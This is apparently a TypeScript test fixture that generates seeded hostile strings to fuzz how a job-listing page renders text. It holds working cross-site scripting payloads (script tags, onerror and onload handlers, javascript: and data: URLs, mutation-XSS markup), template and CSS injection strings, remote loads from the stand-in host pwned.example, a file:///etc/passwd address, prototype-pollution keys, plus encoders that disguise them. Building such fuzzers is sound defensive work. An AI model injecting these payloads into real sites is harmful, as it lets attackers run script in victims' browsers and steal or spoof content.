/** Strings that a page may hold to harm who shows them: families of payloads, each in several carriers. Law: the same seed gives the same strings; each that can run sets `pwned`, and nothing else does. */

const RUN = 'pwned=1';
const FAR = 'https://pwned.example/';

const markup: readonly string[] = [
	`<script>${RUN}</script>`,
	`<script src="${FAR}a.js"></script>`,
	`<script type="module">import "${FAR}a.js"</script>`,
	`<img src=x onerror=${RUN}>`,
	`<img src="${FAR}seen.png">`,
	`<image href=x onerror=${RUN}>`,
	`<svg onload=${RUN}>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x">`,
	`<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe src="javascript:parent.${RUN}"></iframe>`,
	`<object data="javascript:${RUN}"></object>`,
	`<embed src="${FAR}a.swf">`,
	`<video><source onerror=${RUN}></video>`,
	`<audio src=x onerror=${RUN}>`,
	`<details open ontoggle=${RUN}>x</details>`,
	`<input autofocus onfocus=${RUN}>`,
	`<select autofocus onfocus=${RUN}></select>`,
	`<body onload=${RUN}>`,
	`<marquee onstart=${RUN}>x</marquee>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
	`<form><button formaction="javascript:${RUN}">Apply</button></form>`,
	`<a href="javascript:${RUN}">Apply</a>`,
	`<base href="${FAR}">`,
	`<link rel="stylesheet" href="${FAR}a.css">`,
	`<meta http-equiv="refresh" content="0;url=${FAR}">`,
	`<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
	`</textarea><img src=x onerror=${RUN}>`,
	`</title><img src=x onerror=${RUN}>`,
	`--><img src=x onerror=${RUN}><!--`,
	`]]><img src=x onerror=${RUN}>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
	'<plaintext>',
	`<div style="position:fixed;inset:0;background:url(${FAR}b.png)">Saved</div>`,
];
const addresses: readonly string[] = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	`java\tscript:${RUN}`,
	`java\nscript:${RUN}`,
	`\u0001javascript:${RUN}`,
	` javascript:${RUN}`,
	`javascript://%0a${RUN}`,
	`javascript&colon;${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:image/svg+xml,<svg onload=${RUN}>`,
	`vbscript:${RUN}`,
	`blob:https://pwned.example/1`,
	`filesystem:https://pwned.example/temporary/a`,
	`view-source:${FAR}`,
	'file:///etc/passwd',
	'chrome://settings',
	'about:config',
	'chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/options.html',
	'//pwned.example/a',
	'\\\\pwned.example\\a',
	'https://user:secret@pwned.example/',
	'https://рwned.example/',
	'http://[::1',
];
const handlers: readonly string[] = [
	`" onmouseover="${RUN}`,
	`' onfocus='${RUN}' autofocus='`,
	`"><img src=x onerror=${RUN}>`,
	`'/><svg/onload=${RUN}>`,
	`x onpointerenter=${RUN} y=`,
	`\` onclick=${RUN} \``,
	`" style="animation:x" onanimationstart="${RUN}`,
	`" dir="rtl" lang="ar" hidden="`,
];
const templates: readonly string[] = [
	`\${${RUN}}`,
	`{{constructor.constructor('${RUN}')()}}`,
	`<%= ${RUN} %>`,
	`#{${RUN}}`,
	`[[${RUN}]]`,
	`{%${RUN}%}`,
	`');${RUN};('`,
	`";${RUN};//`,
	`\\";${RUN}//`,
	`\u2028${RUN}//`,
	`*/${RUN}/*`,
	"$& $` $' $1 $2 $$ $<a>",
	'$A$ $B$ $1$ $$A$$',
	'{a} {b} {0} %s %d %1$s',
	'__MSG_extension_name__',
	'{"__html":"<img src=x onerror=pwned=1>"}',
	'{"type":"script","props":{"children":"pwned=1"},"constructor":null}',
];
const styles: readonly string[] = [
	';}*{display:none!important}',
	`url(${FAR}c.png)`,
	`expression(${RUN})`,
	`</style><style>@import "${FAR}a.css";</style>`,
	`red;background:url(${FAR}d.png)`,
	`@import url(${FAR}a.css)`,
	`::highlight(jobprism-required){background:url(${FAR}e.png)}`,
	'\\3c img src=x\\3e',
	'}@media all{body{visibility:hidden}}',
];
const directions: readonly string[] = [
	'\u202eevas\u202c',
	'\u202dSaved\u202c',
	'\u2067Saved\u2069',
	'\u2066\u2066\u2066Data',
	'\u200f\u061c\u200eData',
	'\u2069\u2069\u202c\u202cEngineer',
	'\u202e',
	'מהנדס נתונים Data מהנדס',
	'مهندس بيانات (123) Data',
	'\u2067\u202e>\u2069gmi<',
];
const controls: readonly string[] = [
	'Data\u0000Engineer',
	'\u0000',
	'\u0007\u0008\u001b[31mred',
	'\u007f\u0080\u009f',
	'a\r\nb\u000bc\u000cd\u0085e\u2028f\u2029g',
	'\ufeff\u200b\u200c\u200d\u2060\u00ad',
	'Da\u034fta\u3164\u115f\u1160\uffa0',
	'\u206a\u206bx\u206f\ufff9y\ufffaz\ufffb',
	'\u{e0001}\u{e0041}\u{e007f}tags',
	'\ud83d half',
	'half \udc00',
	'\uffff\ufffe\u{10ffff}',
	'\u{e0100}\u{1d173}x\u{1d17a}',
	'\u180e\u17b4\u17b5',
];
const lengths: readonly string[] = [
	'W'.repeat(2000),
	'data-'.repeat(400),
	'デ'.repeat(1500),
	`a${'\u00a0b'.repeat(800)}`,
	'﷽'.repeat(60),
	'𒐫'.repeat(60),
	`Z${'\u0351\u0489'.repeat(1500)}algo`,
	'ﷺ‌'.repeat(100),
	`${'x'.repeat(299)}\u{1f600}end`,
	'.'.repeat(1200),
	'/a'.repeat(700),
	'ก็็็็็็็็็็็็'.repeat(30),
];
const pictures: readonly string[] = [
	'👩‍👩‍👧‍👦',
	'🏴‍☠️ 🏳️‍🌈',
	'🇬🇧🇩🇪🇫🇷',
	'1️⃣2️⃣#️⃣',
	'👍🏿👍🏻',
	'❤️‍🔥'.repeat(100),
	'🧑🏿‍🤝‍🧑🏻',
	'\u{1f1ec}',
	'😀'.repeat(400),
	'🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
];
const names: readonly string[] = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'valueOf',
	'hasOwnProperty',
	'__defineGetter__',
	'then',
	'length',
	'key',
	'ref',
	'children',
	'dangerouslySetInnerHTML',
	'nodeType',
	'null',
	'undefined',
	'NaN',
	'-0',
	'1e400',
	'[object Object]',
	'true',
	'',
	' ',
	'{"__proto__":{"pwned":1}}',
	'constructor.prototype.pwned',
];

export const FAMILIES = {markup, addresses, handlers, templates, styles, directions, controls, lengths, pictures, names} as const;
export type Family = keyof typeof FAMILIES;
/** `live`: as markup in a page without a policy it would do something. */
export type Payload = {readonly text: string; readonly family: Family; readonly carrier: string};

const entities = (text: string): string => text.replace(/[<>"'&]/g, sign => `&#${sign.charCodeAt(0)};`);
/** Ways in which the same harm is dressed. */
export const CARRIERS: Readonly<Record<string, (text: string) => string>> = {
	bare: text => text,
	'after words': text => `Senior Data Engineer ${text}`,
	'before words': text => `${text} (m/f/d), Leeds`,
	entities,
	'entities twice': text => entities(entities(text)),
	'percent signs': text => text.replace(/[<>"' ]/g, sign => encodeURIComponent(sign).replace("'", '%27')),
	'script escapes': text => text.replace(/[<>"']/g, sign => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`),
	'wide signs': text => text.replace(/[<>"'/=]/g, sign => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
	capitals: text => text.replace(/[a-z]+(?=[\s:>=/])/g, word => word.toUpperCase()),
	'out of an attribute': text => `"'></q></button></h1>${text}`,
	'out of data': text => `"}]}</script>${text}`,
	'null signs': text => [...text].slice(0, 400).join('\u0000'),
	doubled: text => `${text}${text}`,
};

/** Numbers from 0 up to 1 that a seed decides. */
function chances(seed: number): () => number {
	let state = seed >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
		mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
	};
}

/** `count` different payloads, every family and every carrier among them; beyond one of each they are dressed twice. */
export function payloadsOf(seed: number, count: number): readonly Payload[] {
	const chance = chances(seed);
	const made = new Map<string, Payload>();
	const add = (text: string, family: Family, carrier: string): void => {
		if (!made.has(text)) made.set(text, {text, family, carrier});
	};
	for (const [family, texts] of Object.entries(FAMILIES) as readonly (readonly [Family, readonly string[]])[])
		for (const text of texts) for (const [carrier, dress] of Object.entries(CARRIERS)) add(dress(text), family, carrier);
	const once = [...made.values()];
	const dressings = Object.entries(CARRIERS);
	for (let tries = 0; made.size < count && tries < 20 * count; tries += 1) {
		const base = once[Math.floor(chance() * once.length)];
		const again = dressings[Math.floor(chance() * dressings.length)];
		if (base !== undefined && again !== undefined && base.text.length < 3000) add(again[1](base.text), base.family, `${base.carrier}, ${again[0]}`);
	}
	const all = [...made.values()];
	for (let at = all.length - 1; at > 0; at -= 1) {
		const other = Math.floor(chance() * (at + 1));
		const [here, there] = [all[at], all[other]];
		if (here !== undefined && there !== undefined) [all[at], all[other]] = [there, here];
	}
	return all.slice(0, count);
}
